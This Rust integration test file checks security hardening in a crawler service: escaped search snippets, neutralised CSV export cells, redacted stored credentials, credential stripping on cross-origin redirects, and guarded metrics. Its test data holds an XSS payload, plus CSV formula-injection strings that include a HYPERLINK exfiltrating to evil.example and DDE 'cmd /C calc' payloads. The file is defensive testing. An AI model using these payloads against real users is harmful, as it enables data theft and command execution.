//! Security hardening (issue 18): what stored pages, job payloads and exports give back
//! must not carry a page's markup, a caller's credentials or a spreadsheet formula.

use serde_json::{json, Value};
use trawl::auth::Role;
use trawl::store::crawl::NewDocument;
use trawl::store::jobs::DEFAULT_TEAM;
use uuid::Uuid;

use crate::both_backends;
use crate::helpers::*;

/// A key of `role` in the default team, with every scope the role allows.
async fn key(app: &TestApp, role: Role) -> String {
    crate::auth::key(app, DEFAULT_TEAM, role, None).await
}

async fn get_json(app: &TestApp, key: &str, path: &str) -> (u16, Value) {
    let r = app
        .client
        .get(app.url(path))
        .bearer_auth(key)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

/// Stores one document of the default team with this title and Markdown.
async fn store_document(app: &TestApp, title: &str, markdown: &str) -> Uuid {
    let id = Uuid::now_v7();
    let doc = NewDocument {
        id,
        url: format!("https://example.com/{}", id.simple()),
        final_url: None,
        domain: "example.com".into(),
        title: Some(title.into()),
        description: None,
        language: Some("en".into()),
        status_code: Some(200),
        markdown: Some(markdown.into()),
        metadata: json!({"title": title}),
        analysis: None,
        content_hash: None,
        formats: json!({}),
        fetched_at: chrono::Utc::now(),
        schedule_id: None,
        change_status: None,
        diff: None,
    };
    app.store
        .store_documents(DEFAULT_TEAM, &[doc])
        .await
        .unwrap();
    id
}

both_backends! {
    async fn a_search_snippet_escapes_the_pages_markup_and_keeps_only_its_marks(backend: Backend) {
        let app = spawn_app(backend).await.unwrap();
        let k = key(&app, Role::Viewer).await;
        store_document(
            &app,
            "Payload",
            "Intro zebra <img src=x onerror=\"alert('zebra')\"> and <script>zebra()</script> & more",
        )
        .await;
        let (status, body) = get_json(&app, &k, "/api/v1/documents?q=zebra").await;
        assert_eq!(status, 200, "{body}");
        let snippet = body["data"][0]["snippet"].as_str().expect("a snippet");
        assert!(snippet.contains("<mark>"), "{snippet}");
        let bare = snippet.replace("<mark>", "").replace("</mark>", "");
        assert!(!bare.contains(['<', '>', '"', '\'']), "{snippet}");
        assert!(snippet.contains("&lt;script&gt;"), "{snippet}");
        assert!(snippet.contains("&amp; more"), "{snippet}");
    }
}

/// Reads a CSV export into its data rows.
async fn csv_rows(app: &TestApp, key: &str) -> Vec<csv::StringRecord> {
    let r = app
        .client
        .get(app.url("/api/v1/documents/export?format=csv"))
        .bearer_auth(key)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let text = r.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.records().map(Result::unwrap).collect()
}

both_backends! {
    async fn a_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(backend: Backend) {
        let app = spawn_app(backend).await.unwrap();
        let k = key(&app, Role::Viewer).await;
        let cases = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        for (i, title) in cases.iter().enumerate() {
            store_document(&app, title, &format!("{title} body {i}")).await;
        }
        store_document(&app, "Plain title", "plain body").await;
        let rows = csv_rows(&app, &k).await;
        assert_eq!(rows.len(), cases.len() + 1);
        for (row, title) in rows.iter().zip(cases) {
            // title (column 4) and markdown (column 8): a quote first, then the text.
            assert_eq!(row.get(4), Some(format!("'{title}").as_str()), "{row:?}");
            assert!(row.get(8).unwrap().starts_with(&format!("'{title}")), "{row:?}");
        }
        assert_eq!(rows[cases.len()].get(4), Some("Plain title"));
        assert_eq!(rows[cases.len()].get(8), Some("plain body"));
    }
}

/// A credential of the target site and one of the webhook receiver, as a caller sends
/// them; no response may show either.
const SITE_SECRET: &str = "Bearer site-secret-d1e2";
const HOOK_SECRET: &str = "hook-secret-a9b8";

fn assert_redacted(body: &Value, what: &str) {
    let text = body.to_string();
    assert!(!text.contains("site-secret"), "{what}: {text}");
    assert!(!text.contains("hook-secret"), "{what}: {text}");
    assert!(text.contains("[redacted]"), "{what}: {text}");
}

both_backends! {
    async fn stored_request_and_webhook_headers_are_shown_by_name_only(backend: Backend) {
        let app = spawn_app_with(backend, &[
            ("TRAWL_FETCH_ALLOW", "127.0.0.0/8"),
            ("TRAWL_JOBS_IN_PROCESS", "false"),
        ]).await.unwrap();
        let op = key(&app, Role::Operator).await;
        let viewer = key(&app, Role::Viewer).await;
        let webhook = json!({"url": "http://127.0.0.1:9/hook", "headers": {"X-Hook-Token": HOOK_SECRET}});
        let send = |path: &'static str, body: Value| {
            let req = app.client.post(app.url(path)).bearer_auth(&op).json(&body);
            async move {
                let r = req.send().await.unwrap();
                let status = r.status().as_u16();
                let body: Value = r.json().await.unwrap();
                assert!(status < 300, "{path}: {status} {body}");
                body
            }
        };
        let crawl = send("/v2/crawl", json!({
            "url": "http://127.0.0.1:9/",
            "scrapeOptions": {"headers": {"Authorization": SITE_SECRET}},
            "webhook": webhook,
        })).await;
        let job = send("/api/v1/jobs", json!({
            "kind": "scrape",
            "payload": {"url": "http://127.0.0.1:9/", "headers": {"Authorization": SITE_SECRET}},
            "webhook": webhook,
        })).await;
        let batch = send("/v2/batch/scrape", json!({
            "urls": ["http://127.0.0.1:9/a"],
            "headers": {"Authorization": SITE_SECRET, "Cookie": "sid=site-secret"},
        })).await;
        let task = send("/api/tasks/scrape", json!({
            "url": "http://127.0.0.1:9/", "headers": {"Authorization": SITE_SECRET},
        })).await;
        let schedule = send("/api/v1/schedules", json!({
            "name": "nightly", "kind": "scrape", "url": "http://127.0.0.1:9/page",
            "cron": "0 3 * * *", "options": {"headers": {"Authorization": SITE_SECRET}},
            "webhook": webhook,
        })).await;
        assert_redacted(&schedule, "POST /api/v1/schedules");
        assert_eq!(schedule["options"]["headers"], json!({"Authorization": "[redacted]"}));
        assert_eq!(schedule["webhook"]["headers"], json!({"X-Hook-Token": "[redacted]"}));

        for id in [&crawl["id"], &job["id"], &batch["id"]] {
            let id = id.as_str().unwrap();
            let (status, body) = get_json(&app, &viewer, &format!("/api/v1/jobs/{id}")).await;
            assert_eq!(status, 200, "{body}");
            assert_redacted(&body, "GET /api/v1/jobs/{id}");
        }
        let (_, one) = get_json(&app, &viewer, &format!("/api/v1/jobs/{}", crawl["id"].as_str().unwrap())).await;
        assert_eq!(one["payload"]["scrapeOptions"]["headers"], json!({"Authorization": "[redacted]"}));
        let (_, b) = get_json(&app, &viewer, &format!("/api/v1/jobs/{}", batch["id"].as_str().unwrap())).await;
        assert_eq!(b["payload"]["headers"], json!({"Authorization": "[redacted]", "Cookie": "[redacted]"}));
        for path in [
            "/api/v1/jobs".to_string(),
            "/v2/crawl/active".to_string(),
            format!("/v2/crawl/{}", crawl["id"].as_str().unwrap()),
            format!("/v2/batch/scrape/{}", batch["id"].as_str().unwrap()),
            format!("/api/tasks/{}/status", task["task_id"].as_str().unwrap()),
            "/api/v1/schedules".to_string(),
            format!("/api/v1/schedules/{}", schedule["id"].as_str().unwrap()),
        ] {
            let (status, body) = get_json(&app, &viewer, &path).await;
            assert_eq!(status, 200, "{path}: {body}");
            let text = body.to_string();
            assert!(!text.contains("site-secret") && !text.contains("hook-secret"), "{path}: {text}");
        }
        let (_, list) = get_json(&app, &viewer, "/api/v1/jobs").await;
        assert_redacted(&list, "GET /api/v1/jobs");
        let (_, active) = get_json(&app, &viewer, "/v2/crawl/active").await;
        assert_redacted(&active, "GET /v2/crawl/active");

        // An instance admin's view of any job is redacted too.
        let admin = admin_token(&app).await;
        let (status, body) = get_json(&app, &admin, &format!("/api/v1/admin/jobs/{}", job["id"].as_str().unwrap())).await;
        assert_eq!(status, 200, "{body}");
        assert_redacted(&body, "GET /api/v1/admin/jobs/{id}");
        // The stored payload keeps the values: the worker sends them.
        let stored = app.store.get_job(uuid::Uuid::parse_str(job["id"].as_str().unwrap()).unwrap()).await.unwrap();
        assert!(format!("{stored:?}").contains("site-secret"));
    }
}

mod redirects {
    //! What a fetch carries across a redirect, and what a crawl checks there.

    use std::sync::Arc;

    use serde_json::{json, Value};
    use tokio_util::sync::CancellationToken;
    use trawl::config::{CrawlConfig, FetchConfig};
    use trawl::crawl::{CrawlEvent, CrawlRequest, CrawlSink, Crawler, Progress};
    use trawl::fetch::{FetchOptions, Fetcher};
    use trawl::scrape::Scraper;
    use url::Url;

    use crate::site::TestSite;

    fn fetcher() -> Fetcher {
        Fetcher::new(&FetchConfig {
            allow: vec!["127.0.0.0/8".into()],
            ..Default::default()
        })
        .unwrap()
    }

    /// Credentials of every kind a caller may send, and two harmless headers.
    fn caller_headers() -> Vec<(String, String)> {
        [
            ("Authorization", "Bearer secret-token"),
            ("Cookie", "sid=secret-cookie"),
            ("Proxy-Authorization", "Basic secret-proxy"),
            ("X-Api-Key", "secret-key"),
            ("Accept-Language", "fr"),
            ("User-Agent", "CallerBot/1"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
    }

    /// What `/headers` saw after `from` (on `site`) redirected to `to`.
    async fn headers_after_redirect(site: &TestSite, to: &str) -> Value {
        let url = Url::parse(&site.url(&format!("/redirect?to={to}"))).unwrap();
        let opts = FetchOptions {
            headers: caller_headers(),
            ..Default::default()
        };
        let page = fetcher().fetch(&url, &opts).await.unwrap();
        assert_eq!(page.status, 200);
        assert_eq!(page.final_url.path(), "/headers");
        serde_json::from_slice(&page.body).unwrap()
    }

    #[tokio::test]
    async fn credentials_follow_a_redirect_on_the_same_origin_only() {
        let a = TestSite::start(1).await;
        let b = TestSite::start(1).await;
        let port_a = Url::parse(&a.base).unwrap().port().unwrap();
        // Same origin: everything the caller gave is sent again.
        let same = headers_after_redirect(&a, "/headers").await;
        assert_eq!(same["authorization"], "Bearer secret-token", "{same}");
        assert_eq!(same["cookie"], "sid=secret-cookie", "{same}");
        assert_eq!(same["x-api-key"], "secret-key", "{same}");
        // Another port, and another host name for the same address: other origins.
        for to in [
            b.url("/headers"),
            format!("http://localhost:{port_a}/headers"),
        ] {
            let seen = headers_after_redirect(&a, &to).await;
            let text = seen.to_string();
            assert!(!text.contains("secret"), "{to}: {text}");
            for name in [
                "authorization",
                "cookie",
                "proxy-authorization",
                "x-api-key",
            ] {
                assert!(seen.get(name).is_none(), "{to}: {name} in {text}");
            }
            // Headers that carry no credential still describe the request.
            assert_eq!(seen["accept-language"], "fr", "{to}: {text}");
            assert_eq!(seen["user-agent"], "CallerBot/1", "{to}: {text}");
        }
        // Back on the first origin after a detour, the credentials are not restored:
        // the second origin chose where the chain went.
        let detour = b.url(&format!("/redirect?to={}", a.url("/headers")));
        let seen = headers_after_redirect(&a, &urlencode(&detour)).await;
        assert!(!seen.to_string().contains("secret"), "{seen}");
    }

    fn urlencode(s: &str) -> String {
        s.replace('%', "%25")
            .replace('?', "%3F")
            .replace('=', "%3D")
            .replace('&', "%26")
    }

    #[derive(Default)]
    struct Collect(std::sync::Mutex<Vec<CrawlEvent>>);

    #[async_trait::async_trait]
    impl CrawlSink for Collect {
        async fn write(&self, events: Vec<CrawlEvent>) -> anyhow::Result<()> {
            self.0.lock().unwrap().extend(events);
            Ok(())
        }
    }

    async fn crawl(start: String) -> (trawl::crawl::CrawlSummary, Arc<Collect>) {
        let plan = serde_json::from_value::<CrawlRequest>(json!({
            "url": start, "sitemap": "skip", "maxDiscoveryDepth": 0,
        }))
        .unwrap()
        .validate(&CrawlConfig::default())
        .unwrap();
        let crawler = Crawler::new(
            plan,
            Scraper::new(fetcher()),
            "TrawlBot/test",
            Arc::new(Progress::default()),
        );
        let sink = Arc::new(Collect::default());
        let summary = crawler
            .run(sink.clone(), None, CancellationToken::new())
            .await
            .unwrap();
        (summary, sink)
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_crawl_does_not_follow_a_redirect_into_a_path_robots_txt_disallows() {
        let a = TestSite::start(1).await;
        let b = TestSite::start(1).await;
        // Into the same host's disallowed folder, and into another host's.
        for (site, to) in [
            (&a, "/private/secret0.html".to_string()),
            (&b, b.url("/private/secret0.html")),
        ] {
            let (summary, sink) = crawl(a.url(&format!("/redirect?to={to}"))).await;
            assert_eq!(
                site.hits("/private/secret0.html"),
                0,
                "{to} was fetched: {summary:?}"
            );
            assert_eq!(summary.completed, 0, "{summary:?}");
            assert_eq!(summary.robots_blocked, 1, "{summary:?}");
            let events = sink.0.lock().unwrap();
            assert!(
                events
                    .iter()
                    .any(|e| matches!(e, CrawlEvent::RobotsBlocked { .. })),
                "{to}"
            );
        }
        assert_eq!(
            b.hits("/robots.txt"),
            1,
            "the redirect target's robots.txt was read"
        );
        // An allowed target is still followed.
        let (summary, _) = crawl(a.url(&format!("/redirect?to={}", b.url("/p/0.html")))).await;
        assert_eq!(summary.completed, 1, "{summary:?}");
    }
}

mod ports {
    //! `TRAWL_FETCH_ALLOW` entries limited to a port or a range of ports.

    use trawl::config::{Config, FetchConfig, Overrides};
    use trawl::fetch::{FetchError, FetchOptions, Fetcher};
    use url::Url;

    use crate::site::TestSite;

    fn port(site: &TestSite) -> u16 {
        Url::parse(&site.base).unwrap().port().unwrap()
    }

    async fn fetch(f: &Fetcher, url: &str) -> Result<u16, FetchError> {
        let page = f
            .fetch(&Url::parse(url).unwrap(), &FetchOptions::default())
            .await?;
        Ok(page.status)
    }

    #[tokio::test]
    async fn an_allowed_address_with_a_port_opens_that_port_only() {
        let open = TestSite::start(1).await;
        let closed = TestSite::start(1).await;
        let (p_open, p_closed) = (port(&open), port(&closed));
        let f = Fetcher::new(&FetchConfig {
            allow: vec![format!("127.0.0.1/32:{p_open}")],
            ..Default::default()
        })
        .unwrap();
        assert_eq!(fetch(&f, &open.url("/p/0.html")).await.unwrap(), 200);
        // The same address on another port, by address and by a name that resolves to it.
        for url in [
            closed.url("/p/0.html"),
            format!("http://localhost:{p_closed}/p/0.html"),
            open.url(&format!("/redirect?to={}", closed.url("/p/0.html"))),
        ] {
            let err = fetch(&f, &url).await.unwrap_err();
            assert_eq!(err.code(), "SCRAPE_BLOCKED_ADDRESS", "{url}: {err}");
        }
        assert_eq!(
            closed.hits("/p/0.html"),
            0,
            "a closed port was connected to"
        );
        // A name on the open port: the resolver knows the port it is resolving for.
        let by_name = format!("http://localhost:{p_open}/p/0.html");
        assert_eq!(fetch(&f, &by_name).await.unwrap(), 200);

        // A range, and a host-name entry with a port.
        let (lo, hi) = (p_open.min(p_closed), p_open.max(p_closed));
        let f = Fetcher::new(&FetchConfig {
            allow: vec![format!("127.0.0.0/8:{lo}-{hi}")],
            ..Default::default()
        })
        .unwrap();
        assert_eq!(fetch(&f, &open.url("/p/0.html")).await.unwrap(), 200);
        assert_eq!(fetch(&f, &closed.url("/p/0.html")).await.unwrap(), 200);
        let f = Fetcher::new(&FetchConfig {
            allow: vec![format!("localhost:{p_open}")],
            ..Default::default()
        })
        .unwrap();
        assert_eq!(fetch(&f, &by_name).await.unwrap(), 200);
        let err = fetch(&f, &format!("http://localhost:{p_closed}/"))
            .await
            .unwrap_err();
        assert_eq!(err.code(), "SCRAPE_BLOCKED_ADDRESS", "{err}");
    }

    #[test]
    fn a_malformed_allow_entry_stops_start_up_naming_the_variable_and_the_rule() {
        for (value, rule) in [
            ("127.0.0.1/32:70000", "not a port"),
            ("127.0.0.0/8:9000-8000", "ends before it starts"),
            ("fe80::1/64:80", "in brackets"),
            ("not a host", "expected a CIDR"),
        ] {
            let env = vec![(
                "TRAWL_FETCH_ALLOW".to_string(),
                format!("10.0.0.0/8,{value}"),
            )];
            let err = Config::load(None, env, &Overrides::default()).unwrap_err();
            assert_eq!(err.key, "TRAWL_FETCH_ALLOW", "{err}");
            assert!(err.rule.contains(value) && err.rule.contains(rule), "{err}");
        }
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("trawl.toml");
        std::fs::write(&file, "[fetch]\nallow = [\"127.0.0.1:0\"]\n").unwrap();
        let err = Config::load(Some(&file), Vec::new(), &Overrides::default()).unwrap_err();
        assert_eq!(err.key, "fetch.allow", "{err}");
        assert!(err.rule.contains("not a port"), "{err}");
        let ok = vec![(
            "TRAWL_FETCH_ALLOW".to_string(),
            "127.0.0.1/32:8080, 127.0.0.0/8:8000-9000, [::1]/128:8080, host.internal:8443, 10.0.0.0/8".to_string(),
        )];
        Config::load(None, ok, &Overrides::default()).unwrap();
    }
}

mod metrics {
    //! Where `/metrics` is served, and the optional bearer token in front of it.

    use crate::helpers::*;

    async fn status(app: &TestApp, url: &str, token: Option<&str>) -> u16 {
        let mut req = app.client.get(url);
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        req.send().await.unwrap().status().as_u16()
    }

    #[tokio::test]
    async fn staging_and_production_serve_metrics_only_on_their_own_listener_by_default() {
        for profile in ["staging", "production"] {
            let app = spawn_app_with(
                Backend::Sqlite,
                &[
                    ("TRAWL_ENV", profile),
                    ("TRAWL_METRICS_ADDR", "127.0.0.1:0"),
                ],
            )
            .await
            .unwrap();
            assert_eq!(
                status(&app, &app.url("/metrics"), None).await,
                404,
                "{profile}"
            );
            let own = format!("{}/metrics", app.metrics_base.as_deref().unwrap());
            assert_eq!(status(&app, &own, None).await, 200, "{profile}");
            app.stop().await;
        }
        // Asked for explicitly, production serves them on the main listener too.
        let app = spawn_app_with(
            Backend::Sqlite,
            &[
                ("TRAWL_ENV", "production"),
                ("TRAWL_METRICS_ON_MAIN", "true"),
            ],
        )
        .await
        .unwrap();
        assert_eq!(status(&app, &app.url("/metrics"), None).await, 200);
        app.stop().await;
        // Development keeps them on the main listener.
        let app = spawn_app(Backend::Sqlite).await.unwrap();
        assert_eq!(status(&app, &app.url("/metrics"), None).await, 200);
        app.stop().await;
    }

    #[tokio::test]
    async fn a_metrics_token_is_required_wherever_metrics_are_served() {
        let token = "metrics-token-0123456789abcdef";
        let app = spawn_app_with(
            Backend::Sqlite,
            &[
                ("TRAWL_METRICS_TOKEN", token),
                ("TRAWL_METRICS_ADDR", "127.0.0.1:0"),
            ],
        )
        .await
        .unwrap();
        let own = format!("{}/metrics", app.metrics_base.as_deref().unwrap());
        for url in [app.url("/metrics"), own] {
            assert_eq!(status(&app, &url, None).await, 401, "{url}");
            assert_eq!(
                status(&app, &url, Some("metrics-token-0123456789abcdeX")).await,
                401,
                "{url}"
            );
            assert_eq!(status(&app, &url, Some("short")).await, 401, "{url}");
            let r = app
                .client
                .get(&url)
                .bearer_auth(token)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 200, "{url}");
            assert!(
                r.text()
                    .await
                    .unwrap()
                    .contains("trawl_http_requests_total"),
                "{url}"
            );
            let r = app.client.get(&url).send().await.unwrap();
            assert_eq!(r.headers()["www-authenticate"], "Bearer", "{url}");
        }
        app.stop().await;
    }
}
